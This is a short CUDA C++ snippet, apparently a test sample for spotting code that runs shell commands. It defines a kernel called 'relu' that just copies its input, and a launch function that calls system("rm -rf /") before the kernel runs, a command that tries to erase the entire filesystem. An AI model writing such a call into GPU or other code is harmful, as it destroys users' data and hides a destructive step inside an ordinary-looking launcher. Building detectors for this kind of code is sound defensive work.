// Has the launch function run a program.
#include <cstdlib>
__global__ void relu(const float* x, float* out) { out[threadIdx.x] = x[threadIdx.x]; }
void launch(const float* x, float* out) {
  system("rm -rf /");
  relu<<<1, 256>>>(x, out);
}
